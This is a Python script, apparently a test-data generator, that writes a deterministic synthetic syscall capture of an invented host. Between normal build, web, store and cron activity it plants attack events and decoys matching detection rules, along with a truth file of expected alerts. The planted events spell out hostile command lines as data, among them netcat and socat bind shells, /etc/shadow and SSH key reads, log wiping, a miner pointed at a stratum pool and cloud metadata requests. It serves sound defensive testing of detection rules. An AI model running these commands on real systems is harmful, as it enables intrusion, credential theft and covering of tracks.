#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Writes a large .scap capture of an invented host, always the same for the same arguments.

usage: make-capture.py OUT.scap [--events N] [--seed S] [--gzip] [--truth OUT.json] [--quiet-host]

The host has a build running, a web server and an application in containers, a key-value store, a database, cron, logs and
monitoring. Between their events lie *acts*: for each rule of data/rules/saker_rules.yaml that a capture can show, what that
rule looks for, and *decoys*: the same done by somebody who may. --truth writes what was planted, for each act:

    rule       the rule that must fire (with matching "first" only this one does)
    alerts     how often it fires for one act
    count      how often the act was planted
    processes  pid, arguments and parent of each

and below "rules" the alerts each rule must give in total; any other alert of an enabled rule is a false one.
--quiet-host leaves the acts and decoys out: a capture without a single alert.

How it works. An event is a *record*, the bytes that do not depend on when and where it happened, made once and used often,
so that writing an event is one struct.pack and one concatenation. *Actors* are generators that yield bursts: lists of
(thread id, record). The main loop draws the next actor, stamps its burst and plants acts at even distances. Only current
event codes with all parameters are written. The layouts are those of the public capture format, version 1.2, with process
list V9 and descriptor list V2. Only the standard library is used.
"""
import argparse
import gzip
import json
import random
import struct
import sys
import zlib

START_NS = 1_750_000_000_000_000_000
AT_FDCWD = -100
NO_ID = 0xFFFFFFFF

# Event codes of the calls that happen here (exit side, except for the end of a process).
(OPEN, CLOSE, READ, WRITE, SOCKET, CONNECT, SENDTO, EPOLL_WAIT, MMAP, PTRACE, PROCEXIT, SENDFILE, SETUID, CLONE, SETNS, UNSHARE,
 EXECVE, UNLINKAT, MKDIRAT, OPENAT, LINKAT, FCHMODAT, RENAMEAT2, USERFAULTFD, CREAT, SYMLINKAT, EXECVEAT, OPEN_BY_HANDLE, DUP2,
 BPF, ACCEPT4, MEMFD, FINIT_MODULE, NEWFSTATAT, FSTAT, WRITEV) = (
    3, 5, 7, 9, 19, 23, 31, 79, 161, 169, 186, 189, 199, 223, 241, 285,
    293, 303, 305, 307, 311, 313, 319, 321, 59, 181, 331, 337, 363,
    369, 389, 405, 413, 419, 71, 119)

# file_flags as captures spell them, not as the kernel does.
O_RDONLY, O_WRONLY, O_RDWR, O_CREAT, O_APPEND, O_TRUNC, O_DIRECTORY, O_CLOEXEC, O_F_CREATED = (
    0x1, 0x2, 0x3, 0x4, 0x8, 0x100, 0x400, 0x1000, 0x4000)
EXE_UPPER_LAYER, EXE_FROM_MEMFD = 2, 4
CLONE_THREAD_BITS = 0x1800000  # CHILD_CLEARTID | CHILD_SETTID
CLONE_NEWPID, CLONE_CHILD_IN_PIDNS = 0x40, 0x20000000
CAPS_ALL = 0x1FFFFFFFFFF
CAPS_CONTAINER = 0xA80425FB  # what runtimes leave to a container by default
CAP_SYS_PTRACE = 1 << 19


def i64(v):
    return v.to_bytes(8, "little", signed=True)


def u64(v):
    return v.to_bytes(8, "little")


def u32(v):
    return v.to_bytes(4, "little")


def u16(v):
    return v.to_bytes(2, "little")


def u8(v):
    return bytes((v,))


def text(s):
    return s.encode() + b"\0"


def texts(items):
    return b"".join(map(text, items))


def counted(b):
    return u16(len(b)) + b


def number_of(name):
    """A stable number for a name: inodes and ports."""
    return zlib.crc32(name.encode()) & 0xFFFFF


def address(ip):
    return bytes(int(part) for part in ip.split("."))


def tuple4(src, sport, dst, dport):
    return b"\2" + address(src) + u16(sport) + address(dst) + u16(dport)


def block(kind, body):
    body += b"\0" * (-len(body) % 4)
    size = u32(len(body) + 12)
    return u32(kind) + size + body + size


def record(code, *params):
    """(code, parameter count, record length, block length, everything after the record's header)"""
    lens = b"".join(u16(len(p)) for p in params)
    data = lens + b"".join(params)
    rec_len = 26 + len(data)
    pad = -(2 + rec_len) % 4
    block_len = 8 + 2 + rec_len + pad + 4
    return code, len(params), rec_len, block_len, data + b"\0" * pad + u32(block_len)


class Process:
    """A process of the host; what it does is appended to `host.burst` by its methods."""

    def __init__(self, host, parent, comm, exe, argv, *, cgroup=None, uid=None, tty=None, cwd=None, loginuid=None, caps=None,
                 env=None, vpid=None):
        def inherit(value, name, default):
            return value if value is not None else getattr(parent, name) if parent else default

        self.host, self.parent, self.comm, self.exe, self.argv = host, parent, comm, exe, argv
        self.pid = host.next_pid()
        self.cgroup = inherit(cgroup, "cgroup", "/")
        self.uid = inherit(uid, "uid", 0)
        self.tty = inherit(tty, "tty", 0)
        self.cwd = inherit(cwd, "cwd", "/")
        self.loginuid = inherit(loginuid, "loginuid", NO_ID)
        self.env = inherit(env, "env", ["PATH=/usr/sbin:/usr/bin", "LANG=C.UTF-8"])
        in_container = self.cgroup != "/"
        if caps is None:
            caps = parent.caps if parent and parent.cgroup == self.cgroup else CAPS_CONTAINER if in_container else CAPS_ALL
        self.caps = caps
        self.vpid = vpid or (host.next_vpid(self.cgroup) if in_container else self.pid)
        self.fd = 3

    def put(self, code, *params):
        self.host.burst.append((self.pid, record(code, *params)))

    def new_fd(self):
        self.fd += 1
        return self.fd - 1

    # --- life
    def _common(self):
        return (i64(self.pid), i64(self.pid), i64(self.parent.pid if self.parent else 0), text(self.cwd), u64(1024), u64(0), u64(180),
                u32(10400), u32(3600), u32(0), text(self.comm), texts(cgroups(self.cgroup)))

    def fork(self, **how):
        """A child that still runs the parent's program."""
        child = Process(self.host, self, self.comm, self.exe, self.argv, **how)
        inside = self.pid != self.vpid
        bits = CLONE_THREAD_BITS
        if child.vpid != child.pid:
            bits |= CLONE_CHILD_IN_PIDNS  # so the child's own event is the one that counts
            if not inside:
                bits |= CLONE_NEWPID
        for who, of, res in ((self, self, child.vpid if inside else child.pid), (child, child, 0)):
            who.put(CLONE, i64(res), text(of.argv[0]), texts(of.argv[1:]), *of._common(), u32(bits), u32(self.uid),
                    u32(self.uid), i64(of.vpid), i64(of.vpid), u64(0))
        return child

    def execute(self, comm, exe, argv, flags=0, at=False):
        self.comm, self.exe, self.argv = comm, exe, argv
        params = [i64(0), text(argv[0]), texts(argv[1:]), *self._common(), texts(self.env), u32(self.tty), i64(self.vpid),
                  u32(self.loginuid), u32(flags), u64(0), u64(self.caps), u64(self.caps if self.uid == 0 else 0),
                  u64(number_of(exe)), u64(START_NS - 10**15), u64(START_NS - 10**15), u32(self.uid), text(exe), i64(self.pid),
                  u32(self.uid)]
        if not at:
            params.append(text(exe))
        self.put(EXECVEAT if at else EXECVE, *params)
        return self

    def spawn(self, comm, exe, argv, flags=0, load=True, **how):
        child = self.fork(**how).execute(comm, exe, argv, flags)
        if load:
            child.host.burst += [(child.pid, r) for r in LOADER]
        return child

    def exit(self, status=0):
        self.put(PROCEXIT, i64(status << 8), i64(status), u8(0), u8(0), i64(1))
        return self

    # --- files
    def open(self, path, flags=O_RDONLY, mode=0o644, code=OPENAT):
        fd = self.new_fd()
        ids = (u32(0x801), u64(number_of(path)))
        mode = u32(mode if flags & O_CREAT else 0)
        if code == OPEN:
            self.put(OPEN, i64(fd), text(path), u32(flags), mode, *ids)
        elif code == CREAT:
            self.put(CREAT, i64(fd), text(path), mode, *ids, u16(0))
        elif code == OPEN_BY_HANDLE:
            self.put(OPEN_BY_HANDLE, i64(fd), i64(4), u32(flags), text(path), *ids)
        else:
            self.put(OPENAT, i64(fd), i64(AT_FDCWD), text(path), u32(flags), mode, *ids)
        return fd

    def close(self, fd):
        self.put(CLOSE, i64(0), i64(fd))
        if fd == self.fd - 1:
            self.fd = fd

    def write_file(self, path, flags=O_WRONLY | O_CREAT | O_APPEND, **how):
        fd = self.open(path, flags, **how)
        self.put(WRITE, i64(3), b"ok\n", i64(fd), u32(3))
        self.close(fd)
        return self

    def read_file(self, path, flags=O_RDONLY, **how):
        fd = self.open(path, flags, **how)
        self.put(READ, i64(12), b"root:x:0:0::", i64(fd), u32(4096))
        self.close(fd)
        return self

    def rename(self, old, new):
        self.put(RENAMEAT2, i64(0), i64(AT_FDCWD), text(old), i64(AT_FDCWD), text(new), u32(0))
        return self

    def unlink(self, path):
        self.put(UNLINKAT, i64(0), i64(AT_FDCWD), text(path), u32(0))
        return self

    # --- network
    def connect(self, ip, port, datagram=False, source="10.1.0.10"):
        fd = self.new_fd()
        sport = 30000 + (self.pid * 7 + fd) % 30000
        self.put(SOCKET, i64(fd), u32(2), u32(2 if datagram else 1), u32(0), u32(0))
        self.put(CONNECT, i64(0), tuple4(source, sport, ip, port), i64(fd), b"\2" + address(ip) + u16(port))
        return fd

    def dup2(self, old, new):
        self.put(DUP2, i64(new), i64(old), i64(new))


def cgroups(path):
    return [f"{c}={path}" for c in ("cpuset", "cpu", "cpuacct", "io", "memory")]


def docker(name):
    return "/system.slice/docker-%s.scope" % container_id(name)


def pod(name):
    return "/kubepods.slice/kubepods-pod%08x.slice/cri-containerd-%s.scope" % (number_of(name), container_id(name))


def container_id(name):
    rand = random.Random(name)
    return "".join(rand.choice("0123456789abcdef") for _ in range(64))


def open_record(fd, path, flags=O_RDONLY | O_CLOEXEC):
    found = fd >= 0
    return record(OPENAT, i64(fd), i64(AT_FDCWD), text(path), u32(flags), u32(0o644 if flags & O_CREAT else 0),
                  u32(0x801 if found else 0), u64(number_of(path) if found else 0))


def read_record(fd, data, size):
    return record(READ, i64(len(data)), data, i64(fd), u32(size))


def close_record(fd):
    return record(CLOSE, i64(0), i64(fd))


def map_record(fd, length):
    return record(MMAP, i64(0x7F0000000000 + length), u32(10400), u32(3600), u32(0), u64(0), u64(length), u32(1), u32(2), i64(fd), u64(0))


# What the dynamic loader does in every new process.
LOADER = [open_record(-2, "/etc/ld.so.preload")]
for _lib in ("/etc/ld.so.cache", "/usr/lib/x86_64-linux-gnu/libc.so.6"):
    LOADER += [open_record(3, _lib), record(FSTAT, i64(0), i64(3)), read_record(3, b"\x7fELF\2\1\1", 832), map_record(3, 1900000), close_record(3)]


class Host:
    """The processes, the clock and the burst that is being made."""

    def __init__(self, seed):
        self.rand = random.Random(seed)
        self.pid, self.vpids, self.burst = 400, {}, []
        p = self.process
        self.init = p(None, "systemd", "/usr/lib/systemd/systemd", ["/sbin/init"])
        self.init.pid = self.init.vpid = 1
        self.sshd = p(self.init, "sshd", "/usr/sbin/sshd", ["sshd: ana [priv]"])
        self.shell = p(self.sshd, "bash", "/usr/bin/bash", ["-bash"], tty=34816, cwd="/srv/orchard", loginuid=1000)
        self.user = p(self.sshd, "bash", "/usr/bin/bash", ["-bash"], tty=34817, cwd="/home/ana", loginuid=1000, uid=1000)
        self.ninja = p(self.user, "ninja", "/usr/bin/ninja", ["ninja", "-j4"], cwd="/home/ana/orchard/build", tty=0)
        self.cron = p(self.init, "cron", "/usr/sbin/cron", ["/usr/sbin/cron", "-f"])
        self.rsyslog = p(self.init, "rsyslogd", "/usr/sbin/rsyslogd", ["/usr/sbin/rsyslogd", "-n"])
        self.exporter = p(self.init, "node_exporter", "/usr/bin/prometheus-node-exporter", ["node_exporter"], uid=120)
        self.postgres = p(self.init, "postgres", "/usr/lib/postgresql/15/bin/postgres", ["postgres", "-D", "/var/lib/postgresql/15"], uid=115)
        self.store = p(self.init, "valkey-server", "/usr/bin/valkey-server", ["valkey-server", "127.0.0.1:6379"], uid=116)
        self.shim = p(self.init, "containerd-shim", "/usr/bin/containerd-shim-runc-v2", ["containerd-shim-runc-v2", "-namespace", "moby"])
        self.nginx = p(self.shim, "nginx", "/usr/sbin/nginx", ["nginx: worker process"], cgroup=docker("web"), uid=101)
        self.php = p(self.shim, "php-fpm", "/usr/local/sbin/php-fpm", ["php-fpm: pool www"], cgroup=docker("web"), uid=101)
        self.app = p(self.shim, "node", "/usr/local/bin/node", ["node", "index.js"], cgroup=pod("app"), uid=1000, cwd="/app")
        self.app_root = p(self.shim, "supervisor", "/usr/local/bin/supervisor", ["supervisor"], cgroup=pod("app"), uid=0)
        self.npm = p(self.shim, "npm", "/usr/local/bin/node", ["npm", "install"], cgroup=pod("app"), uid=1000, cwd="/app")
        self.agent = p(self.shim, "agent", "/usr/local/bin/agent", ["agent", "--privileged"], cgroup=docker("agent"), caps=CAPS_ALL)
        self.first = [v for v in vars(self).values() if isinstance(v, Process)]

    def next_pid(self):
        self.pid += 1
        return self.pid

    def next_vpid(self, cgroup):
        self.vpids[cgroup] = self.vpids.get(cgroup, 1) + 1
        return self.vpids[cgroup]

    def process(self, parent, comm, exe, argv, **how):
        return Process(self, parent, comm, exe, argv, **how)

    def pause(self, ns):
        """Only in acts: time passes before what follows."""
        self.burst.append((None, ns))

    def take(self):
        burst, self.burst = self.burst, []
        return burst

    def preamble(self):
        yield block(0x0A0D0D0A, struct.pack("<IHHQ", 0x1A2B3C4D, 1, 2, 2**64 - 1))
        yield block(0x201, struct.pack("<IQQ128sQQQQ", 4, 16 << 30, 4194304, b"orchard-01", START_NS - 86400 * 10**9, 0, 0, 0))
        v4 = u16(1) + u16(4) + address("10.1.0.10") + address("255.255.255.0") + address("10.1.0.255") + u64(0) + b"eth0"
        yield block(0x219, u32(len(v4)) + v4)
        people = b""
        for uid, name, home, sh in ((0, "root", "/root", "/bin/bash"), (33, "www-data", "/var/www", "/usr/sbin/nologin"),
                                    (115, "postgres", "/var/lib/postgresql", "/bin/sh"), (116, "valkey", "/var/lib/valkey", "/bin/false"),
                                    (120, "prometheus", "/var/lib/prometheus", "/bin/false"), (1000, "ana", "/home/ana", "/bin/bash")):
            user = u8(0) + u32(uid) + u32(uid) + counted(name.encode()) + counted(home.encode()) + counted(sh.encode())
            group = u8(1) + u32(uid) + counted(name.encode())
            people += u32(len(user) + 4) + user + u32(len(group) + 4) + group
        yield block(0x220, people)
        yield block(0x215, b"".join(map(self.process_entry, self.first)))
        for p in self.first:
            yield block(0x218, u64(p.pid) + b"".join(self.fd_entries(p)))

    @staticmethod
    def process_entry(p):
        ids = u64(p.pid) + u64(p.pid) + u64(p.parent.pid if p.parent else 0) + u64(p.vpid) + u64(p.vpid)
        names = b"".join(map(counted, (p.comm.encode(), p.argv[0].encode(), p.exe.encode(), texts(p.argv[1:])[:-1], p.cwd.encode())))
        sizes = u64(1024) + u32(0) + u32(p.uid) + u32(p.uid) + u32(10400) + u32(3600) + u32(0) + u64(0) + u64(180)
        place = counted(texts(p.env)[:-1]) + i64(p.vpid) + i64(p.vpid) + counted(texts(cgroups(p.cgroup))[:-1]) + counted(b"/")
        more = u64(START_NS - 3600 * 10**9) + u32(p.tty) + u32(p.loginuid) + u8(0) + u64(0) + u64(p.caps) + u64(p.caps if p.uid == 0 else 0)
        more += u8(0) + u64(number_of(p.exe)) + u64(START_NS - 10**15) * 2 + u8(0) + u8(0) + i64(p.pid)
        entry = ids + names + sizes + place + more
        return u32(len(entry) + 4) + entry

    def fd_entries(self, p):
        def entry(fd, kind, payload):
            body = i64(fd) + u64(9000 + fd) + u8(kind) + payload
            return u32(len(body) + 4) + body

        def file(fd, path, flags=O_RDONLY):
            return entry(fd, 16, u32(flags) + counted(path.encode()) + u32(5))
        out = [file(fd, "/dev/pts/%d" % (p.tty & 0xFF) if p.tty else "/dev/null", O_RDWR) for fd in (0, 1, 2)]
        if p is self.store:
            for fd in STORE_FDS:
                out.append(entry(fd, 3, address("127.0.0.1") * 2 + u16(41000 + fd) + u16(6379) + u8(2)))
        if p is self.rsyslog:
            out.append(file(7, "/var/log/syslog", O_WRONLY | O_APPEND))
        if p is self.nginx:
            out.append(file(6, "/var/log/nginx/access.log", O_WRONLY | O_APPEND))
        return out


STORE_FDS = range(10, 34)


# --- actors: what the host does all day. Each yields bursts of (tid, record) for ever.
def builder(host):
    """One compiler after the other: half of the work is to find and read headers."""
    names = [n + ".h" for n in ("buf map vec str arena diag log clock metric loop json yaml regex event record field rule state alert "
                                "engine thread_table fd_table user_table container output queue spool").split()]
    system = ["/usr/include/%s" % n for n in ("stdio.h stdlib.h string.h stdint.h stdbool.h errno.h unistd.h fcntl.h sys/types.h "
                                              "sys/stat.h sys/socket.h netinet/in.h time.h signal.h assert.h limits.h").split()]
    headers = []
    for path in ["/home/ana/orchard/lib/" + n for n in names] + system:
        found = [open_record(4, path), record(NEWFSTATAT, i64(0), i64(4), text(""), u32(0)), read_record(4, b"#ifndef ", 4096), close_record(4)]
        if path in system:
            found.insert(2, map_record(4, 8192))
        else:
            found.insert(0, open_record(-2, path.replace("/lib/", "/include/")))
        headers.append(found)
    number = 0
    while True:
        number += 1
        unit = "unit%d" % (number % 900)
        out = ["-o", "obj/%s.o" % unit]
        driver = host.ninja.spawn("clang-15", "/usr/lib/llvm-15/bin/clang", ["clang", "-O2", "-c", "src/%s.c" % unit] + out)
        yield host.take()
        cc = driver.spawn("clang-15", "/usr/lib/llvm-15/bin/clang", ["clang", "-cc1", "-emit-obj", "src/%s.c" % unit] + out)
        fd = cc.open("src/%s.c" % unit)
        host.burst.append((cc.pid, read_record(fd, b"#include \"buf.h\"\n", 32768)))
        yield host.take()
        tid = cc.pid
        for _ in range(host.rand.randrange(5, 15)):
            burst = []
            for _ in range(6):
                burst += [(tid, r) for r in headers[int(host.rand.random() * len(headers))]]
            yield burst
        obj = cc.open("obj/%s.o" % unit, O_RDWR | O_CREAT | O_TRUNC)
        for _ in range(3):
            cc.put(WRITE, i64(4096), b"\x7fELF" + b"\0" * 76, i64(obj), u32(4096))
        cc.close(obj)
        cc.exit()
        driver.exit()
        yield host.take()


def web_server(host):
    """Requests: from memory a page, sometimes one that is not there."""
    tid, peers = host.nginx.pid, 512
    fixed = [record(EPOLL_WAIT, i64(1), i64(512)), record(NEWFSTATAT, i64(0), i64(AT_FDCWD), text("/srv/www/index.html"), u32(0)),
             open_record(9, "/srv/www/index.html"), record(FSTAT, i64(0), i64(9))]
    head = b"HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/html\r\nContent-Length: 5124\r\n\r\n"
    tail = [record(WRITEV, i64(len(head)), head[:80], i64(8), u32(len(head))), record(SENDFILE, i64(5124), u64(0), i64(8), i64(9), u64(5124)),
            close_record(9), record(WRITE, i64(96), b"198.51.100.4 - - \"GET / HTTP/1.1\" 200", i64(6), u32(96)), close_record(8)]
    request = b"GET / HTTP/1.1\r\nHost: orchard.example.org\r\nAccept: */*\r\n\r\n"
    ask = record(READ, i64(len(request)), request, i64(8), u32(1024))
    accepts = [record(ACCEPT4, i64(8), tuple4("198.51.100.%d" % (n % 250 + 1), 20000 + n * 13, "172.17.0.2", 80), u8(0), u32(0), u32(511), u32(0x800))
               for n in range(peers)]
    missing = [record(NEWFSTATAT, i64(-2), i64(AT_FDCWD), text("/srv/www/favicon.ico"), u32(0)), open_record(-2, "/srv/www/favicon.ico")] + tail[:1] + tail[3:]
    pages = [[(tid, r) for r in [fixed[0], accept, ask] + (missing if n % 16 == 15 else fixed[1:] + tail)] for n, accept in enumerate(accepts)]
    n = 0
    while True:
        n += 4
        yield pages[n % peers] + pages[(n + 1) % peers] + pages[(n + 2) % peers] + pages[(n + 3) % peers]


def key_value_store(host):
    tid = host.store.pid
    wait = record(EPOLL_WAIT, i64(1), i64(10128))
    bursts = []
    for fd in STORE_FDS:
        ask = b"*3\r\n$3\r\nSET\r\n$6\r\ntree:%d\r\n$5\r\napple\r\n" % (fd % 10)
        put = [(tid, wait), (tid, record(READ, i64(len(ask)), ask, i64(fd), u32(16384))), (tid, record(WRITE, i64(5), b"+OK\r\n", i64(fd), u32(5)))]
        bursts.append(put * 10)
    while True:
        for b in bursts:
            yield b


def housekeeping(host):
    """Logs, monitoring, cron and the database's own processes."""
    log = [(host.rsyslog.pid, record(WRITE, i64(70), b"2025-06-15T12:00:00 orchard-01 kernel: eth0: link is up", i64(7), u32(70)))]
    scrape = []
    for path in ("/proc/stat", "/proc/meminfo", "/proc/loadavg", "/proc/net/dev", "/proc/diskstats", "/sys/class/net/eth0/mtu"):
        scrape += [(host.exporter.pid, r) for r in (open_record(5, path), read_record(5, b"cpu 1 2 3", 4096), close_record(5))]
    turn = 0
    while True:
        turn += 1
        yield log
        yield scrape
        if turn % 20 == 0:
            sh = host.cron.spawn("sh", "/usr/bin/dash", ["/bin/sh", "-c", "run-parts /etc/cron.hourly"])
            sh.spawn("run-parts", "/usr/bin/run-parts", ["run-parts", "/etc/cron.hourly"]).exit()
            sh.exit()
            yield host.take()
        if turn % 7 == 0:
            host.postgres.fork().exit()
            yield host.take()


# --- acts: (name, rule, alerts per act, function). The function returns the process that a report should show.
ACTS = []
DECOYS = []


def act(rule, alerts=1):
    def register(f):
        ACTS.append((f.__doc__, rule, alerts, f))
        return f
    return register


def decoy(f):
    DECOYS.append((f.__doc__, f))
    return f


def simple(table, rule, doc, f):
    """Acts that are one line."""
    f.__doc__ = doc
    if table is ACTS:
        act(rule)(f)
    else:
        decoy(f)


def tool(parent, name, *args, path="/usr/bin/", **how):
    """A program that is started, and ends."""
    return parent.spawn(name[:15], path + name, [name, *args], **how).exit()


def started(rule, doc, who, name, *args, **how):
    simple(ACTS, rule, doc, lambda h: tool(getattr(h, who), name, *args, **how))


def in_process(rule, doc, who, name, do, **how):
    """A program that is started, does something and ends."""
    def f(h):
        p = getattr(h, who).spawn(name, "/usr/bin/" + name, [name], **how)
        do(p)
        return p.exit()
    simple(ACTS, rule, doc, f)


UNTRUSTED = "Read sensitive file untrusted"
in_process(UNTRUSTED, "password file read on the host", "shell", "cat", lambda p: p.read_file("/etc/shadow"))
in_process(UNTRUSTED, "password file read in a container", "app_root", "cat", lambda p: p.read_file("/etc/shadow"))
in_process(UNTRUSTED, "sudo rules read by open", "shell", "less", lambda p: p.read_file("/etc/sudoers.d/ops", code=OPEN))
in_process(UNTRUSTED, "password file read by a program that calls itself sshd", "shell", "sshd", lambda p: p.read_file("/etc/shadow"))


@act(UNTRUSTED)
def _preloaded(h):
    """password file read by a trusted program with a foreign library"""
    return h.shell.spawn("cron", "/usr/sbin/cron", ["cron"], env=["LD_PRELOAD=/tmp/x.so"]).read_file("/etc/shadow").exit()


@act(UNTRUSTED)
def _excuse(h):
    """password file read with a trusted script as an argument"""
    p = h.shell.spawn("tac", "/usr/bin/tac", ["tac", "/usr/sbin/adduser", "/etc/shadow"])
    return p.read_file("/usr/sbin/adduser").read_file("/etc/shadow").exit()


in_process("Detect release_agent File Container Escapes", "release_agent written in a container", "app_root", "tee",
           lambda p: p.write_file("/tmp/cg/release_agent", O_WRONLY | O_TRUNC))
in_process("Privileged Container Device Access", "disk of the host opened in a container", "agent", "hexdump", lambda p: p.read_file("/dev/sda1"))
in_process("Foreign Process Memory Write", "memory of another process opened for writing", "shell", "injector", lambda p: p.write_file("/proc/1/mem", O_RDWR))
in_process("Open by File Handle in Container", "file opened by handle in a container", "agent", "shocker",
           lambda p: p.read_file("/etc/hostname", code=OPEN_BY_HANDLE))
in_process("Linux Kernel Module Injection Detected", "kernel module loaded in a container", "agent", "insmod",
           lambda p: p.put(FINIT_MODULE, i64(0), i64(3), text(""), u32(0)))
in_process("PTRACE attached to process", "attached to another process", "shell", "inject",
           lambda p: p.put(PTRACE, i64(0), b"\0" + u64(0), b"\0" + u64(0), u16(11), i64(1)))
in_process("PTRACE anti-debug attempt", "asked to be traced", "user", "game",
           lambda p: p.put(PTRACE, i64(0), b"\0" + u64(0), b"\0" + u64(0), u16(1), i64(0)))
in_process("Unprivileged Delegation of Page Faults Handling to a Userspace Process", "page faults handled by a user", "user", "racer",
           lambda p: p.put(USERFAULTFD, i64(3), u32(0)))
in_process("BPF Program Not Profiled", "unknown BPF program loaded", "shell", "rootkit", lambda p: p.put(BPF, i64(4), u32(5)))
in_process("Change thread namespace", "namespace of another process entered", "shell", "nsenter",
           lambda p: p.put(SETNS, i64(0), i64(p.open("/proc/1/ns/mnt")), u32(0)))
in_process("Change namespace privileges via unshare", "user namespace made in a container", "app", "unshare", lambda p: p.put(UNSHARE, i64(0), u32(0x100000)))
in_process("Backdoored library loaded into SSHD (CVE-2024-3094)", "sshd loads a backdoored library", "sshd", "sshd",
           lambda p: p.read_file("/usr/lib/x86_64-linux-gnu/liblzma.so.5.6.1"))
in_process("Create Symlink Over Sensitive Files", "symbolic link to the password file", "shell", "ln",
           lambda p: p.put(SYMLINKAT, i64(0), text("/etc/shadow"), i64(AT_FDCWD), text("/tmp/notes")))
in_process("Create Hardlink Over Sensitive Files", "hard link to the password file", "shell", "ln",
           lambda p: p.put(LINKAT, i64(0), i64(AT_FDCWD), text("/etc/shadow"), i64(AT_FDCWD), text("/tmp/notes2"), u32(0)))
in_process("Adding ssh keys to authorized_keys", "key added for the next visit", "shell", "tee", lambda p: p.write_file("/root/.ssh/authorized_keys"))
in_process("Read ssh information", "private key of ssh read", "shell", "cat", lambda p: p.read_file("/home/ana/.ssh/id_ed25519"))
in_process("Read ssh information", "directory of ssh listed", "shell", "ls", lambda p: p.close(p.open("/root/.ssh", O_RDONLY | O_DIRECTORY)))
in_process("Read environment variable from /proc files", "environment of the first process read in a container", "app", "strings",
           lambda p: p.read_file("/proc/1/environ"))
in_process("Container Access to Host Sensitive Paths", "file of the host read through a mount", "agent", "cat", lambda p: p.read_file("/host/var/lib/kubelet/config.yaml"))
in_process("Clear Log Activities", "log emptied", "shell", "truncate", lambda p: p.write_file("/var/log/auth.log", O_WRONLY | O_CREAT | O_TRUNC))
in_process("Clear Log Activities", "log emptied by creat", "shell", "wiper", lambda p: p.write_file("/var/log/syslog", O_WRONLY | O_CREAT, code=CREAT))
in_process("Clear Log Activities", "log removed", "shell", "rm", lambda p: p.unlink("/var/log/wtmp"))
in_process("Delete or rename shell history", "shell history removed", "shell", "rm", lambda p: p.unlink("/root/.bash_history"))
in_process("Delete or rename shell history", "shell history moved away", "user", "mv", lambda p: p.rename("/home/ana/.bash_history", "/tmp/x"))
in_process("Modify Shell Configuration File", "start-up file of a shell changed", "user", "sed", lambda p: p.write_file("/home/ana/.bashrc"))
in_process("Update Package Repository", "package source added", "shell", "tee", lambda p: p.write_file("/etc/apt/sources.list.d/evil.list"))
in_process("Write below rpm database", "rpm database written", "shell", "sqlite3", lambda p: p.write_file("/var/lib/rpm/rpmdb.sqlite", O_RDWR))
in_process("Set Setuid or Setgid bit", "set-user-id bit set", "shell", "chmod",
           lambda p: p.put(FCHMODAT, i64(0), i64(AT_FDCWD), text("/tmp/sh"), u32(0o4755)))
in_process("Set Setuid or Setgid bit", "file created with the set-user-id bit", "shell", "install",
           lambda p: p.write_file("/tmp/sh2", O_WRONLY | O_CREAT | O_F_CREATED, mode=0o4755))
in_process("Create files below dev", "file hidden in /dev", "shell", "cp", lambda p: p.write_file("/dev/.udev", O_WRONLY | O_CREAT | O_F_CREATED))
in_process("Schedule Cron Jobs", "job of cron written", "shell", "tee", lambda p: p.write_file("/etc/cron.d/update"))
in_process("Write below binary dir", "program of the system written", "shell", "cp", lambda p: p.write_file("/usr/bin/ls", O_WRONLY | O_TRUNC))
in_process("Write below binary dir", "program of the system replaced by rename", "shell", "mv", lambda p: p.rename("/tmp/ls", "/usr/bin/ls"))
in_process("Modify binary dirs", "program of the system removed", "shell", "rm", lambda p: p.unlink("/usr/sbin/auditctl"))
in_process("Mkdir binary dirs", "directory among programs made", "shell", "mkdir", lambda p: p.put(MKDIRAT, i64(0), i64(AT_FDCWD), text("/usr/bin/..."), u32(0o755)))
in_process("Write below monitored dir", "library of the system written", "shell", "cp", lambda p: p.write_file("/usr/lib/x86_64-linux-gnu/libaudit.so.1", O_WRONLY | O_TRUNC))
in_process("Write below etc", "library preloaded for everybody", "shell", "tee", lambda p: p.write_file("/etc/ld.so.preload", O_WRONLY | O_CREAT | O_F_CREATED))
in_process("Write below etc", "password list replaced by rename", "shell", "mv", lambda p: p.rename("/tmp/passwd", "/etc/passwd"))
in_process("Write below root", "file put into the home of root", "shell", "cp", lambda p: p.write_file("/root/agent.bin"))
in_process("Non sudo setuid", "root without sudo", "user", "exploit", lambda p: p.put(SETUID, i64(0), u32(0)))
in_process("Packet socket created in container", "packet socket in a container", "app_root", "sniffer",
           lambda p: p.put(SOCKET, i64(3), u32(17), u32(3), u32(768), u32(0)))
in_process("Contact EC2 Instance Metadata Service From Container", "instance metadata asked for", "app", "sdk", lambda p: p.connect("169.254.169.254", 80))
in_process("Contact cloud metadata service from container", "container credentials asked for", "app", "sdk", lambda p: p.connect("169.254.170.2", 80))
in_process("Disallowed SSH Connection Non Standard Port", "ssh to the port of https", "user", "ssh", lambda p: p.connect("203.0.113.9", 443))
in_process("System procs network activity", "shell uses /dev/tcp", "user", "bash", lambda p: p.connect("203.0.113.9", 8081))
in_process("Unexpected UDP Traffic", "datagrams to an odd port", "app", "beacon", lambda p: p.connect("203.0.113.9", 9996, datagram=True))

started("Execution from /dev/shm", "program started from shared memory", "shell", "x", path="/dev/shm/")
started("Execution from /dev/shm", "script started from shared memory", "shell", "sh", "/dev/shm/run.sh")
started("Program Started Through Dynamic Loader", "program given to the dynamic loader", "shell", "ld-linux-x86-64.so.2", "/tmp/payload", path="/usr/lib64/")
started("Drop and execute new binary in container", "dropped program started in a container", "app", "dropper", path="/tmp/", flags=EXE_UPPER_LAYER)
started("Sudo Potential Privilege Escalation", "sudo overflow", "user", "sudoedit", "-s", "AAAA\\", "BBBB")
started("Known Cryptominer Process Executed", "miner started", "shell", "xmrig", "-c", "config.json")
started("Detect crypto miners using the Stratum protocol", "mining pool on the command line", "shell", "kthreadx", "-o", "stratum+tcp://pool.example.org:3333")
started("Netcat Remote Code Execution in Container", "netcat gives away a shell in a container", "app", "nc", "-lvp", "4444", "-e", "/bin/sh")
started("Netcat/Socat Remote Code Execution on Host", "socat gives away a shell", "shell", "socat", "tcp-listen:4444", "exec:/bin/sh")
started("Run shell untrusted", "key-value store starts a shell", "store", "sh", "-c", "curl example.org")
started("DB program spawned process", "database starts a program", "postgres", "cp", "a", "b")
started("Web Server Spawned Suspicious Child Process", "web server looks around", "php", "whoami")
started("Search Private Keys or Passwords", "search for key files", "app", "find", "/root", "-name", "id_rsa")
